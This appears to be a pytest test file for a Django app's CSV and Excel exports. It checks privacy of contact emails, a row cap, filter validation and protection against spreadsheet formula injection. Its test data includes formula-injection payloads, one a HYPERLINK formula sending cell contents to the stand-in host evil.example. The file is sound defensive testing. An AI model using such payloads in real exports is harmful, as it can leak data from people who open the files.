"""Exports: no personal data for anonymous readers, a row cap, and no formulas."""

import csv
import io

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from mandates.models import Deliverable, ReviewStatus
from tests import factories

pytestmark = pytest.mark.django_db

EXPORT = reverse("mandates:export_csv")
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
]


def public_deliverable(**fields) -> Deliverable:
    return factories.DeliverableFactory(
        is_public=True, review_status=ReviewStatus.CONFIRMED, **fields
    )


def csv_rows(response) -> list[list[str]]:
    assert response.streaming, "exports are streamed, not built in memory"
    return list(csv.reader(io.StringIO(response.getvalue().decode("utf-8-sig"))))


def test_anonymous_export_has_no_email_addresses(staff_client):
    """Anonymous visitors get no "Assigned to" column and no address; staff get both."""
    deliverable = public_deliverable(title="Report on water")
    contact = factories.ContactFactory(email="officer.private@ohchr.example.org")
    deliverable.assignees.add(contact)

    anonymous = Client().get(EXPORT)
    text = anonymous.getvalue().decode("utf-8-sig")
    assert "Report on water" in text
    assert contact.email not in text
    assert "Assigned to" not in csv.reader(io.StringIO(text)).__next__()

    staff = csv_rows(staff_client.get(EXPORT))
    assigned = staff[0].index("Assigned to")
    assert [row[assigned] for row in staff[1:]] == [contact.email]


def test_export_stops_at_the_row_cap_and_says_so(client, settings):
    """Beyond EXPORT_MAX_ROWS the export ends with a row telling the reader to narrow it."""
    settings.EXPORT_MAX_ROWS = 2
    for _ in range(3):
        public_deliverable()
    rows = csv_rows(client.get(EXPORT))
    assert len(rows) == 1 + 2 + 1  # header, two deliverables, the note
    assert "Only the first 2 deliverables" in rows[-1][0]


@pytest.mark.parametrize("title", FORMULAS)
def test_csv_cells_never_start_a_formula(client, title):
    """A title a spreadsheet would run as a formula is written as text (leading ')."""
    public_deliverable(title=title)
    rows = csv_rows(client.get(EXPORT))
    cell = rows[1][rows[0].index("Title")]
    assert cell == "'" + title


def test_xlsx_cells_are_text_not_formulas(staff_client):
    """The Excel export stores such titles as strings, never as formula cells."""
    for title in FORMULAS:
        public_deliverable(title=title)
    response = staff_client.get(reverse("admin:mandates_deliverable_export_xlsx"))
    sheet = load_workbook(io.BytesIO(response.content)).active
    header = [cell.value for cell in sheet[1]]
    column = header.index("Title")
    cells = [row[column] for row in sheet.iter_rows(min_row=2)]
    assert {cell.data_type for cell in cells} == {"s"}
    # As typed: a text cell needs no apostrophe, which Excel would show as part of the
    # text (a CSV does). (XML stores a carriage return as a line feed.)
    expected = sorted(title.replace("\r", "\n") for title in FORMULAS)
    assert sorted(cell.value for cell in cells) == expected


def test_invalid_export_filters_are_refused_with_the_reason(client):
    """An unknown actor or a bad date answers 400 naming the field, not every deliverable."""
    public_deliverable(title="Report on water")
    response = client.get(EXPORT, {"actor": "Nobody at all"})
    assert response.status_code == 400
    assert "actor: Nobody at all is no actor's name: write it in full" in (
        response.content.decode()
    )  # naming the value, not Django's "Select a valid choice"
    response = client.get(EXPORT, {"due_after": "2026-13-45"})
    assert response.status_code == 400
    assert "due_after" in response.content.decode()
    assert client.get(EXPORT, {"scope": "everything"}).status_code == 400
